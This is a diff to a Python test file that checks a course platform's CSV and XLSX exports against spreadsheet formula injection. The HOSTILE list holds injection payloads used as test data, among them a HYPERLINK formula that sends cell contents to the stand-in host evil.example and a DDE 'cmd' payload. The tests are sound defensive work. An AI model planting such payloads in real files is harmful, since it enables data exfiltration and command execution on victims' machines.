@@ -82,3 +82,56 @@ def test_cli_export_results(cohort, database_url, monkeypatch, tmp_path):  # noq
 
 def test_learner_role_is_checked_for_staff_only(make_user):
     assert Role.TRAINER.is_staff and not Role.LEARNER.is_staff
+
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Kliknij")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\uff1dSUM(1)"]
+
+
+def test_hostile_names_never_become_formulas(client, auth, cohort, make_user, in_app):  # noqa: F811
+    import zipfile
+
+    from sqlalchemy import update
+
+    from course.extensions import db
+    from course.models import User
+
+    ids = [make_user(Role.LEARNER, org=cohort["org"], name=f"Osoba {n}").id for n in range(len(HOSTILE))]
+
+    def rename():  # names as self-registration would have stored them before control characters were refused
+        for user_id, name in zip(ids, HOSTILE, strict=True):
+            db.session.execute(update(User).where(User.id == user_id).values(name=name))
+        db.session.commit()
+
+    in_app(rename)
+    auth.login(cohort["trainer"].email)
+    rows = parse_csv(client.get("/trainer/export/matrix.csv").data)
+    names = {row[1] for row in rows[1:]}
+    assert {"'" + name for name in HOSTILE} <= names
+    response = client.get("/trainer/export/matrix.xlsx")
+    data = response.data
+    response.close()
+    with zipfile.ZipFile(io.BytesIO(data)) as xlsx:
+        sheet_xml = xlsx.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet_xml and "<f " not in sheet_xml, "no formula cell at all"
+    workbook = openpyxl.load_workbook(io.BytesIO(data))
+    cells = {cell.value for row in workbook["matrix"].iter_rows() for cell in row}
+    assert {"'" + name for name in HOSTILE} <= cells
+    assert all(cell.data_type != "f" for row in workbook["matrix"].iter_rows() for cell in row)
+    workbook.close()
+
+
+def test_xlsx_dates_are_date_cells_and_booleans_booleans(client, auth, cohort):  # noqa: F811
+    from datetime import datetime
+
+    auth.login(cohort["trainer"].email)
+    response = client.get("/trainer/export/attempts.xlsx")
+    data = response.data
+    response.close()
+    workbook = openpyxl.load_workbook(io.BytesIO(data))
+    rows = list(workbook["attempts"].iter_rows(values_only=True))
+    workbook.close()
+    header = rows[0]
+    knowledge = next(dict(zip(header, r, strict=True)) for r in rows[1:] if r[3] == "M9_01-knowledge")
+    assert isinstance(knowledge["started_at"], datetime) and isinstance(knowledge["submitted_at"], datetime)
+    assert isinstance(knowledge["passed"], bool) and knowledge["awaiting_marking"] is False
+    assert isinstance(knowledge["score"], int | float)
